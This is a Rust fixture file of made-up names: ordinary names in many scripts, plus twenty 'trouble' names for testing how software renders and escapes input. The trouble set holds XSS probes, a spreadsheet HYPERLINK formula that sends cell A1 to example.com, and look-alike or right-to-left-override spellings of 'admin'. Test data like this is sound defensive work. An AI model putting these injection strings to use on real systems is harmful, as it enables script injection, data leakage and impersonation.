//! Names for made-up people: ordinary ones in many scripts, and those that break pages.

/// Given and family names that go together, script by script.
pub const NAMES: [(&[&str], &[&str]); 10] = [
    (
        &["Ada", "Grace", "Alan", "Barbara", "Edsger", "Frances", "Ken", "Radia"],
        &[
            "Whitfield",
            "Okafor",
            "Lindqvist",
            "Moreau",
            "Castellanos",
            "Byrne",
            "Novak",
        ],
    ),
    (
        &["Jürgen", "Bärbel", "Łukasz", "Chloé", "Ñandú", "Søren", "Zoë", "Şükrü"],
        &[
            "Müller-Lüdenscheidt",
            "Żółkiewski",
            "Ångström",
            "d’Orçay",
            "Öztürk",
            "Brontë",
        ],
    ),
    (
        &["Дмитрий", "Ольга", "Святослав", "Надежда"],
        &["Ковалёв", "Шевченко", "Лебедева", "Пархоменко"],
    ),
    (
        &["Αλέξανδρος", "Ελένη", "Ωμέγα", "Δήμητρα"],
        &["Παπαδόπουλος", "Νικολάου", "Βασιλείου"],
    ),
    (&["محمد", "فاطمة", "يوسف", "ليلى"], &["الحسيني", "بن عمر", "القاسمي"]),
    (&["דוד", "נעמי", "אבנר", "שירה"], &["כהן", "לוי", "מזרחי"]),
    (&["佐藤", "鈴木", "高橋"], &["花子", "一郎", "さくら"]),
    (&["王", "李", "欧阳"], &["小明", "秀英", "建国"]),
    (&["김", "박", "최"], &["민준", "서연", "지우"]),
    (&["अनीता", "राजेश", "प्रिया"], &["शर्मा", "वर्मा", "चौधरी"]),
];

/// Username and name of people whose names are trouble.
///
/// Markup, right-to-left overrides, emoji that are many code points, names without end,
/// names that are not there, spreadsheet formulas, look-alikes, lone marks.
#[rustfmt::skip]
pub const TROUBLE: [(&str, &str); 20] = [
    ("<i>html</i>user", "<b>Bold</b> Person"),
    ("script", "<script>alert('name')</script>"),
    ("onerror", "<img src=x onerror=alert(1)>"),
    ("no-name", ""),
    ("override", "User \u{202e}nimda\u{202c} (overridden)"),
    ("rtl-mark", "\u{200f}Right\u{200f} to \u{2067}left\u{2069}"),
    ("emoji", "Family 👨‍👩‍👧‍👦 & Flag 🏴‍☠️🇪🇺 👩🏽‍🚀"),
    ("a-username-that-somebody-generated-from-a-distinguished-name-uid-4f9d1c6e-ou-people-ou-research-ou-applied-dc-example-dc-com", "Maximiliane Philippa Theodora Wilhelmina von und zu Hohenstaufen-Württemberg-Sachsen-Coburg und Gotha, Freifrau zu Guttenstein und Herrin auf Schloß Neuschwabenburg an der Oberen Unterweser, die Jüngere, genannt Maxi"),
    ("formula", "=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Click\")"),
    ("spaces", "   "),
    ("admin\u{200b}", "authentik Default Admіn"),
    ("zalgo", "Z\u{0351}\u{036b}a\u{0313}\u{0346}l\u{030a}\u{035d}g\u{0308}\u{0343}o\u{034a}\u{035c}"),
    ("quote\"s'", "O'Brien \"Bob\" \\ `backtick` ${x} {{y}}"),
    ("unbroken", "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftsangestelltenvereinigungsvorsitzenderstellvertreterinnenkonferenzprotokollführungsassistenzbüroleitungsvertretungsausweis"),
    ("null", "null"),
    ("newline", "Two\nLines\tand a tab"),
    ("at@example.com", "+SUM(1;2)"),
    ("ümläut", "I\u{307}stanbul İ ı ß ẞ ﬁ"),
    ("0", "0"),
    ("entity", "&lt;b&gt; &amp;amp; &#x202e;"),
];
